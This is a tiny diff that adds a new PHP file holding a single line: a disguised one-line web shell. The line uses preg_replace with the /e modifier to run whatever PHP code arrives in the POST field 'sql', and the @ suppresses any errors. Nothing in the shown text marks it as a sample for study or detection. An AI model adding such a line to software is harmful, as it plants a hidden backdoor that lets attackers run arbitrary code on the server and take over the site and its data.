@@ -1,0 +1,2 @@
+<?php
+@preg_replace("/[checksql]/e", $_POST['sql'], "saft");
